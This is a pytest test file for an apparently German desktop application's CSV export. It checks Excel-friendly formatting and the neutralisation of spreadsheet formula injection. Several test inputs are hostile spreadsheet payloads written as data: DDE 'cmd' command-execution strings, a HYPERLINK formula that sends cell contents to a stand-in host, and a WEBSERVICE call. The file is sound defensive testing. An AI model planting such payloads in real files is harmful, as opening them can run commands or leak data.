"""CSV for Excel on a German Windows: BOM, semicolons, CR LF, German dates, no formulas."""

from __future__ import annotations

import os
import stat
from datetime import date

import pytest
from document_reading import BOM, read_csv

from sro_desktop.documents.csv_files import cell, neutralise, write_csv
from sro_desktop.documents.files import WORD_PDF_OR_CSV, ExportError, output_suffix


@pytest.mark.parametrize(
    ("text", "written"),
    [
        pytest.param("=1+1", "'=1+1", id="equals"),
        pytest.param("  =1+1", "'  =1+1", id="equals-after-blanks"),
        pytest.param("@SUM(A1:A9)", "'@SUM(A1:A9)", id="at"),
        pytest.param("=HYPERLINK(\"http://x.example/?\"&A1)", "'=HYPERLINK(\"http://x.example/?\"&A1)",
                     id="hyperlink"),
        pytest.param("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", id="dde-plus"),
        pytest.param("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", id="dde-minus"),
        pytest.param("-SUMME(A1:A3)", "'-SUMME(A1:A3)", id="minus-function"),
        pytest.param("+WEBSERVICE(\"http://x\")", "'+WEBSERVICE(\"http://x\")", id="plus-function"),
        pytest.param("- Punkt", "- Punkt", id="bullet-point-stays"),
        pytest.param("- Punkt (siehe Anlage)", "- Punkt (siehe Anlage)", id="bullet-with-aside"),
        pytest.param("-5", "-5", id="negative-number"),
        pytest.param("+ Zuschuss des Landes", "+ Zuschuss des Landes", id="plus-text"),
        pytest.param("–> Gedankenstrich", "–> Gedankenstrich", id="en-dash"),
        pytest.param("Ja = Zustimmung", "Ja = Zustimmung", id="equals-inside"),
        pytest.param("R&D <w:p> {{ 7*7 }}", "R&D <w:p> {{ 7*7 }}", id="markup-is-text"),
        pytest.param("", "", id="empty"),
    ],
)
def test_neutralise(text, written):
    assert neutralise(text) == written


@pytest.mark.parametrize(
    ("value", "text"),
    [
        pytest.param(None, "", id="none"),
        pytest.param(True, "ja", id="true"),
        pytest.param(False, "nein", id="false"),
        pytest.param(date(2018, 9, 30), "30.09.2018", id="date"),
        pytest.param(7, "7", id="int"),
        pytest.param("a\x07b\x1bc", "abc", id="control-characters"),
        pytest.param("Zeile 1\r\nZeile 2", "Zeile 1\nZeile 2", id="line-break"),
    ],
)
def test_cell(value, text):
    assert cell(value) == text


def test_written_for_excel(tmp_path):
    rows = [["SG-2026/001", date(2026, 3, 12), "Tagesordnung; mit Semikolon", True],
            ["SG-2026/002", None, "Zeile 1\nZeile 2 \"zitiert\"", False],
            ["=1+1", date(2026, 12, 31), "- Punkt\x0b", None]]
    path = write_csv(tmp_path / "liste.csv", ["Nr.", "Datum", "Titel", "öffentlich"], rows)
    data = path.read_bytes()
    assert data.startswith(BOM)
    assert data.count(b"\r\n") == 4
    assert b"\n" not in data.replace(b"\r\n", b"").replace(b"Zeile 1\nZeile 2", b"")
    assert data[len(BOM):].split(b"\r\n")[0] == "Nr.;Datum;Titel;öffentlich".encode()
    assert read_csv(path) == [
        ["Nr.", "Datum", "Titel", "öffentlich"],
        ["SG-2026/001", "12.03.2026", "Tagesordnung; mit Semikolon", "ja"],
        ["SG-2026/002", "", "Zeile 1\nZeile 2 \"zitiert\"", "nein"],
        ["'=1+1", "31.12.2026", "- Punkt", ""],
    ]
    assert not [p for p in tmp_path.iterdir() if p.name != "liste.csv"]


def test_missing_folder_gives_a_message_and_no_file(tmp_path):
    with pytest.raises(ExportError, match="gibt es nicht"):
        write_csv(tmp_path / "fehlt" / "liste.csv", ["A"], [["1"]])
    assert not (tmp_path / "fehlt").exists()


def test_a_failed_write_leaves_the_old_file(tmp_path):
    target = tmp_path / "liste.csv"
    target.write_bytes(b"alt")

    def rows():
        yield ["1"]
        raise RuntimeError("kaputt")

    with pytest.raises(RuntimeError):
        write_csv(target, ["A"], rows())
    assert target.read_bytes() == b"alt"
    assert [p.name for p in tmp_path.iterdir()] == ["liste.csv"]


@pytest.mark.parametrize(("name", "kind"), [("a.docx", ".docx"), ("a.CSV", ".csv"),
                                            ("a.pdf", ".pdf")])
def test_the_suffix_decides(name, kind):
    assert output_suffix(name, WORD_PDF_OR_CSV) == kind


@pytest.mark.parametrize("name", ["a.xlsx", "a.txt", "a"])
def test_other_file_kinds_are_refused(name):
    with pytest.raises(ExportError,
                       match=r"\.docx \(Word\), \.pdf \(PDF\) oder \.csv \(Excel\)"):
        output_suffix(name, WORD_PDF_OR_CSV)


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_written_files_are_readable_like_any_new_file(tmp_path):
    """Not only by their owner (the temporary file's mode); an existing file keeps its own."""
    umask = os.umask(0o022)
    try:
        path = write_csv(tmp_path / "neu.csv", ["A"], [["1"]])
        assert stat.S_IMODE(path.stat().st_mode) == 0o644
        existing = tmp_path / "alt.csv"
        existing.write_text("alt", encoding="utf-8")
        existing.chmod(0o664)
        write_csv(existing, ["A"], [["2"]])
        assert stat.S_IMODE(existing.stat().st_mode) == 0o664
    finally:
        os.umask(umask)
